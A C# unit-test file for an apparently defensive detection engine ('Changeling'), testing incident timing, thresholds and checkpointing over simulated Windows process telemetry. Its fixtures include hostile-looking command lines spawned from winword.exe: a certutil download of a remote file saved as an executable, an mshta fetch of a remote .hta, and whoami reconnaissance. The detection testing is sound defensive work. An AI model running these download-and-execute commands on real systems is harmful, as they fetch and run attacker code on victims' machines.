using System.IO.Compression;
using System.Text;
using Changeling.Backtest.Checkpoints;
using Changeling.Backtest.Fleet;
using Changeling.Backtest.Recordings;
using Changeling.Events;
using Changeling.Findings;
using Changeling.Incidents;
using Changeling.Pipeline;
using Changeling.Rules;
using Changeling.Storing;
using Changeling.TestSupport;

namespace Changeling.Backtest.Tests;

/// <summary>The gathering of incidents on counts in memory.</summary>
public sealed class IncidentTimerTests
{
    private static readonly DateTimeOffset Start = new(2026, 11, 3, 9, 0, 0, TimeSpan.Zero);

    private static CancellationToken Token => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Signals_are_read_once_and_then_dropped()
    {
        var fleet = Fleet(AlertKind.Incidents);
        await SendAsync(fleet, minute: 0);
        Assert.NotEmpty(Stored(fleet));

        var first = await FireAsync(fleet);
        var second = await FireAsync(fleet);
        await SendAsync(fleet, minute: 30);
        var third = await FireAsync(fleet);

        Assert.NotEmpty(first.Read);
        Assert.NotEmpty(first.Messages);
        Assert.Empty(second.Read);
        Assert.NotEmpty(third.Read);
        Assert.Empty(third.Read.IntersectBy(first.Read.Select(s => s.Uid), s => s.Uid));
        Assert.Empty(Stored(fleet));
    }

    [Fact]
    public async Task Where_findings_are_the_alerts_no_signal_is_kept()
    {
        var fleet = Fleet(AlertKind.Findings);

        await SendAsync(fleet, minute: 0);

        Assert.Null(fleet.Incidents);
        Assert.Empty(Stored(fleet));
    }

    [Fact]
    public async Task After_the_end_of_a_history_the_time_goes_on_and_closes_incidents()
    {
        var fleet = Fleet(AlertKind.Incidents);
        await SendAsync(fleet, minute: 0);
        var created = await FireAsync(fleet);

        var later = await fleet.Incidents!.FireAsync(fleet.Snapshot.Rules, Start.AddHours(3), Token);

        Assert.Equal(Start, created.Clock);
        Assert.Equal(Start.AddHours(3), later.Clock);
        Assert.NotEmpty(later.Messages);
        Assert.All(later.Outcome.Sent, s => Assert.Equal(IncidentActivity.Close, s.Activity));
    }

    [Fact]
    public async Task The_threshold_says_which_incidents_are_sent_and_all_are_reported_as_changed()
    {
        var (low, high) = (Fleet(AlertKind.Incidents, 0.05), Fleet(AlertKind.Incidents, 0.99));
        await SendAsync(low, minute: 0, "whoami.exe", "whoami /groups");
        await SendAsync(high, minute: 0, "whoami.exe", "whoami /groups");

        var (sent, watched) = (await FireAsync(low), await FireAsync(high));

        Assert.NotEmpty(sent.Outcome.Sent);
        Assert.Empty(watched.Outcome.Sent);
        Assert.Equal(sent.Outcome.Changed.Select(i => (i.Id, i.Score)), watched.Outcome.Changed.Select(i => (i.Id, i.Score)));
    }

    [Fact]
    public async Task A_checkpoint_has_the_incidents_and_the_signals_that_were_not_read_yet()
    {
        var (whole, resumed) = (Fleet(AlertKind.Incidents), Fleet(AlertKind.Incidents));
        await SendAsync(whole, minute: 0);
        await FireAsync(whole);
        await SendAsync(whole, minute: 5, "mshta.exe", "mshta http://192.0.2.7/a.hta");
        await SendAsync(whole, minute: 6, "whoami.exe", "whoami /groups");
        using var file = new MemoryStream();
        using (var archive = new ZipArchive(file, ZipArchiveMode.Create, leaveOpen: true)) await CountsPart.WriteAsync(archive, whole);

        await CountsPart.ReadAsync(new ZipArchive(file), resumed, Token);

        Assert.NotEmpty(Stored(whole));
        Assert.Equal(Stored(whole).Select(Text), Stored(resumed).Select(Text));
        foreach (var minute in new[] { 20, 40 })
        {
            // A weak signal that was stored in this hour is not stored again.
            await SendAsync(whole, minute, "whoami.exe", "whoami /groups");
            await SendAsync(resumed, minute, "whoami.exe", "whoami /groups");
            var (expected, news) = (await FireAsync(whole), await FireAsync(resumed));
            Assert.Equal(expected.Read.Select(s => s.Uid), news.Read.Select(s => s.Uid));
            Assert.Equal(Changed(expected), Changed(news));
            Assert.Equal(expected.Messages.Select(Text), news.Messages.Select(Text));
        }
    }

    private static string Text(StoredSignals row) => $"{row.First} {row.EnqueuedTime:O} {Text(row.Body)}";

    private static string Text(ReadOnlyMemory<byte> body) => Encoding.UTF8.GetString(body.Span);

    private static IEnumerable<(Guid Id, double Score, int Revision)> Changed(IncidentNews news) =>
        news.Outcome.Changed.Select(i => (i.Id, i.Score, i.Revision));

    private static FleetCounts Fleet(AlertKind alerts, double threshold = 0.5) => new(
        SimulatedHistory.Snapshot(RuleSet.Shipped.With([new DecisionThresholds(Incident: threshold)])),
        new PipelineSettings { EmitAfter = TimeSpan.Zero, Alerts = alerts });

    private static async Task SendAsync(
        FleetCounts fleet, int minute, string child = "certutil.exe",
        string line = "certutil -urlcache -split -f http://192.0.2.7/a.txt C:\\Users\\Public\\a.exe")
    {
        var time = Start.AddMinutes(minute);
        var body = Telemetry.Record("winword.exe", child, $"{line} {minute}", time, $"{{8d3f21b6-0000-0000-0000-{minute:d12}}}", "ws-1");
        await fleet.ProcessAsync([new EventBatch(History.Partition(0), [new TelemetryMessage(minute, time, body)])], Token);
    }

    private static Task<IncidentNews> FireAsync(FleetCounts fleet) => fleet.Incidents!.FireAsync(fleet.Snapshot.Rules, null, Token);

    private static IReadOnlyList<StoredSignals> Stored(FleetCounts fleet) =>
        fleet.Store.Signals(fleet.Named(History.Partition(0)).ToString(), null, 100);
}
